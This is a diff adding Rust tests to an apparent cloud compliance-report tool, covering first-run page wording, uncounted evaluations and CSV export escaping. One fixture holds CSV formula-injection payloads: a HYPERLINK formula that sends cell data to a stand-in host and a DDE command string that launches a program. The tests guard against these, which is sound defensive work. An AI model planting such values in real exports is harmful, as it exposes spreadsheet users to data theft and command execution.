@@ -30,16 +30,20 @@ fn the_first_screen_as_it_is() {
 }
 
 #[test]
-fn a_run_without_results_says_so() {
+fn finding_8_a_run_without_results_says_that_the_first_evaluation_is_running() {
     let files = files(&run("run-1", "2026-03-04T00:00:00Z", 0, false, &[]));
     let page = text(&files, "index.html");
     for words in [
-        "No rule has judged a resource yet.",
-        "This is the first run",
+        "Not yet evaluated",
+        "The first evaluation is still running.",
+        "There is no earlier report with results.",
         "has never reported",
-        "No resource breaks a rule.",
+        "<p>No rule has results yet.</p>",
     ] {
         assert!(page.contains(words), "{words}");
+    }
+    for words in ["/ 100", "No resource breaks a rule.", "Every judged resource complies."] {
+        assert!(!page.contains(words), "{words}");
     }
     assert_eq!(text(&files, "findings.csv").lines().count(), 1);
 }
@@ -150,6 +154,78 @@ fn what_could_not_be_read_is_on_the_first_screen() {
         let page = text(&files, "index.html");
         assert_eq!(page.contains("Not read"), words.is_some());
         assert!(words.is_none_or(|words| page.contains(words)), "{words:?}");
+    }
+}
+
+#[test]
+fn finding_8_the_first_results_are_no_change_and_a_day_later_nothing_is_running() {
+    let empty = run("run-1", "2026-03-04T00:00:00Z", 0, false, &[]);
+    let runs = runs_page(&empty.trend, |run| run.run_id.clone()).unwrap();
+    assert!(String::from_utf8(runs.body).unwrap().contains(": not yet evaluated<"));
+    let second = run("run-2", "2026-03-04T00:15:00Z", 40, false, &files(&empty));
+    assert_eq!(second.change, None, "everything would be new");
+    let page = files(&second);
+    assert!(text(&page, "index.html").contains("The first evaluation is still running. 2 of 3 rules have results."));
+    let third = run("run-3", "2026-03-04T06:15:00Z", 40, false, &page);
+    let change = third.change.as_ref().unwrap();
+    assert_eq!((change.new, change.fixed), (0, 0));
+    let last = files(&run("run-4", "2026-03-05T06:15:00Z", 0, false, &files(&third)));
+    assert!(!text(&last, "index.html").contains("first evaluation"));
+}
+
+#[test]
+fn finding_6_evaluations_of_rules_that_others_deployed_are_told_and_not_counted() {
+    for (count, words) in [
+        (0, None),
+        (1, Some("One evaluation is of a rule that this deployment does not manage")),
+        (1_234, Some("1\u{202f}234 evaluations are of rules that this deployment does not manage")),
+    ] {
+        let context = Context { other_evaluations: count, ..context("1", "2026-03-04T00:00:00Z") };
+        let report = report(context, broken(2), &[]);
+        assert_eq!(report.totals.total(), 2);
+        let files = files(&report);
+        let page = text(&files, "index.html");
+        assert_eq!(page.contains("Not counted"), words.is_some());
+        assert!(words.is_none_or(|words| page.contains(words)), "{words:?}");
+        let json: serde_json::Value = serde_json::from_slice(body(&files, "report.json")).unwrap();
+        assert_eq!(json["otherEvaluations"], count);
+    }
+}
+
+/// The findings of `shared/cases`, case 24: rule, account and resource.
+const FORMULAS: [(&str, &str, &str); 5] = [
+    ("=HYPERLINK(\"https://x.example/?\"&A1,\"open\")", "012345678901", "vol-1"),
+    ("own-policy", "111122223333", "=1+1"),
+    ("own-policy", "111122223333", "+cmd|' /C calc'!A0"),
+    ("own-policy", "111122223333", "-2"),
+    ("own-policy", "111122223333", "@SUM(1)"),
+];
+
+#[test]
+fn case_24_formulas_in_names_do_not_run_and_the_next_run_finds_nothing_new_or_fixed() {
+    let formulas = || {
+        let mut gathered = Gathered::default();
+        for (rule, account, resource_id) in FORMULAS {
+            let resource = Resource { account, region: "eu-west-1", resource_type: "AWS::SSM::Parameter", resource_id };
+            gathered.add(resource, [(rule, Compliance::NonCompliant)]);
+        }
+        gathered
+    };
+    let first = files(&report(context("1", "2026-03-04T00:00:00Z"), formulas(), &[]));
+    for name in ["findings.csv", "fixed.csv", "rules.csv"] {
+        let mut reader = csv::Reader::from_reader(body(&first, name));
+        for cell in reader.records().flat_map(|record| record.unwrap().iter().map(str::to_owned).collect::<Vec<_>>()) {
+            assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "{name}: {cell}");
+        }
+    }
+    let second = report(context("2", "2026-03-05T00:00:00Z"), formulas(), &first);
+    let change = second.change.as_ref().unwrap();
+    assert_eq!((change.new, change.fixed, change.still_open), (0, 0, 5));
+    let third = report(context("3", "2026-03-06T00:00:00Z"), Gathered::default(), &files(&second));
+    assert!(third.fixed.is_empty(), "nothing reported");
+    let names: Vec<_> = third.findings.iter().map(|finding| finding.resource_id.to_owned()).collect();
+    for (_, _, resource_id) in FORMULAS {
+        assert!(names.iter().any(|name| name == resource_id), "{resource_id} in {names:?}");
     }
 }
 
